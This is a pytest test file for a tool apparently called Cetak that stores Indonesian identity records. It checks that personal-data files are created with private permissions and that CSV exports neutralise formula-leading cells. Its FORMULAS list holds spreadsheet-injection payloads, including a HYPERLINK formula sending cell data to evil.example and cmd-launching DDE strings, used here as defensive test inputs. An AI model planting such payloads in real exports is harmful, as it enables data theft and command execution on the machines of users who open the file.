"""Issue 11: personal data on disk is the Cetak user's alone, and exports cannot carry formulas.

Item 7: the database (every NIK, name, address and photo), its WAL, the archive, receipts,
documents and backups are created 0600 in 0700 folders, whatever the umask the process was
started with; a home left with loose modes is tightened by ``cetak init``; files Cetak does not
own are not touched.

Item 9: a CSV export never starts a cell with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return taken from data, so a spreadsheet does not run it as a formula.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlmodel import Session

from cetak.csvsafe import safe_csv_cell, safe_csv_row
from cetak.db import engine_from_settings, migrate
from cetak.settings import Settings, private_umask
from dashboard import data
from intake.service import ingest_one

from factory import BatchSpec, make_row

TODAY = date(2026, 11, 23)

# --- item 7: modes ---------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def loose_umask() -> Iterator[None]:
    """Run with the usual 022 umask (files 0644), then put the test process's umask back."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def cli(home: Path, *args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CETAK_")}
    env.update(CETAK_HOME=str(home), CETAK_ENV_FILE=str(home.parent / "tidak-ada.env"))
    proc = subprocess.run(
        [sys.executable, "-m", "cetak", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
        preexec_fn=lambda: os.umask(0o022),  # as started from a login shell
    )
    assert proc.returncode == 0, proc.stderr
    return proc


def sqlite_files(home: Path) -> list[Path]:
    return [
        p for p in (home / n for n in ("cetak.db", "cetak.db-wal", "cetak.db-shm")) if p.exists()
    ]


def test_cetak_init_creates_a_private_home_under_a_loose_umask(tmp_path):
    home = tmp_path / "home"
    cli(home, "init", "--regency", "33.10")
    assert mode(home) == 0o700
    assert home / "cetak.db" in sqlite_files(home)
    for f in sqlite_files(home):
        assert mode(f) == 0o600, f
    for d in ("archive", "inbox", "rejected", "outbox"):
        assert mode(home / d) == 0o700, d


def test_cetak_init_tightens_a_loose_home_and_leaves_other_files_alone(tmp_path):
    home = tmp_path / "home"
    cli(home, "init", "--regency", "33.10")
    # As an older Cetak left it: 0755 folders, 0644 files.
    parcel = home / "archive" / "PRR-3310-20261122-0001" / "records.csv"
    parcel.parent.mkdir(parents=True, exist_ok=True)
    parcel.write_text("prr_id,nik\n", "utf-8")
    (home / "receipts").mkdir(exist_ok=True)
    slip = home / "receipts" / "KRM-1.bin"
    slip.write_bytes(b"\x1b@")
    theirs = home / "catatan-pribadi.txt"  # not Cetak's: stays as its owner left it
    theirs.write_text("x", "utf-8")
    for p in (home, home / "archive", parcel.parent, home / "receipts"):
        p.chmod(0o755)
    for p in (*sqlite_files(home), parcel, slip, theirs):
        p.chmod(0o644)

    cli(home, "init", "--regency", "33.10")

    for p in (home, home / "archive", parcel.parent, home / "receipts"):
        assert mode(p) == 0o700, p
    for p in (*sqlite_files(home), parcel, slip):
        assert mode(p) == 0o600, p
    assert mode(theirs) == 0o644


def test_the_engine_makes_a_new_sqlite_database_private(tmp_path, loose_umask):
    settings = Settings(home=tmp_path / "home")
    engine = engine_from_settings(settings)
    try:
        migrate(engine)
        with engine.begin() as conn:
            conn.execute(sa.text("SELECT 1"))
        home = settings.resolved_home
        assert mode(home) == 0o700
        files = sqlite_files(home)
        assert home / "cetak.db" in files
        for f in files:
            assert mode(f) == 0o600, f
    finally:
        engine.dispose()


def test_ensure_dirs_creates_every_folder_private(tmp_path, loose_umask):
    settings = Settings(home=tmp_path / "home")
    settings.ensure_dirs()
    for d in (
        settings.resolved_home,
        settings.inbox_dir,
        settings.archive_dir,
        settings.rejected_dir,
        settings.outbox_dir,
    ):
        assert mode(d) == 0o700, d


def test_private_umask_makes_new_files_private(tmp_path, loose_umask):
    private_umask()
    (tmp_path / "cadangan.tar.gz").write_bytes(b"x")
    (tmp_path / "dokumen").mkdir()
    assert mode(tmp_path / "cadangan.tar.gz") == 0o600
    assert mode(tmp_path / "dokumen") == 0o700


def test_a_flow_preflight_makes_everything_the_run_writes_private(
    tmp_path, monkeypatch, loose_umask
):
    from application.installation import initialise
    from cetak.regions import load_regency
    from workflows.common import preflight

    home = tmp_path / "home"
    monkeypatch.setenv("CETAK_HOME", str(home))
    monkeypatch.delenv("CETAK_DATABASE_URL", raising=False)
    monkeypatch.setenv("CETAK_ENV_FILE", str(tmp_path / "tidak-ada.env"))
    settings = Settings()
    engine = engine_from_settings(settings)
    migrate(engine)
    initialise(engine, load_regency("33.10"))
    os.umask(0o022)
    settings, engine, served = preflight()
    # A batch ingested by the run: archived copy and ACK are written under the run's umask.
    folder = BatchSpec(rows=[make_row()]).write(tmp_path / "kiriman")
    ack = ingest_one(
        engine=engine,
        path=folder,
        served=served,
        home_dirs=(settings.archive_dir, settings.rejected_dir, settings.outbox_dir),
        today=TODAY,
    )
    assert ack["status"] == "ACCEPTED"
    written = [p for p in home.rglob("*")]
    assert any(p.is_file() and settings.archive_dir in p.parents for p in written)
    for p in written:
        assert mode(p) == (0o700 if p.is_dir() else 0o600), p
    engine.dispose()


# --- item 9: CSV exports ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # fullwidth equals sign
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_leading_cell_is_neutralised(value):
    cell = safe_csv_cell(value)
    assert cell.startswith("'")
    assert cell[1:] == value  # the text itself is kept for the reader


@pytest.mark.parametrize(
    "value", ["PRR-3310-0001", "BUDI SANTOSO", "", "-12", "-3.5", "3310********0001", "a=b"]
)
def test_ordinary_cells_are_kept_as_they_are(value):
    assert safe_csv_cell(value) == value


def test_numbers_and_empty_values_pass_through():
    assert safe_csv_row([7, None, -1, "=1"]) == [7, "", -1, "'=1"]


def test_the_quarantine_export_neutralises_formulas_from_the_feed(engine, served, home, tmp_path):
    # Not a PRR id: quarantined, the id kept as central sent it.
    rows = [make_row(prr_id=f) for f in FORMULAS[:4]]
    folder = BatchSpec(rows=rows).write(tmp_path / "kiriman")
    ack = ingest_one(
        engine=engine,
        path=folder,
        served=served,
        home_dirs=(home.archive_dir, home.rejected_dir, home.outbox_dir),
        today=TODAY,
    )
    assert sum(ack["quarantined"].values()) == 4, ack
    with Session(engine) as s:
        text = data.quarantine_csv(s, show_nik=lambda n: n).decode("utf-8")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0][0] == "prr_id"
    cells = [cell for row in parsed[1:] for cell in row]
    assert sorted(r[0] for r in parsed[1:]) == sorted("'" + f for f in FORMULAS[:4])
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
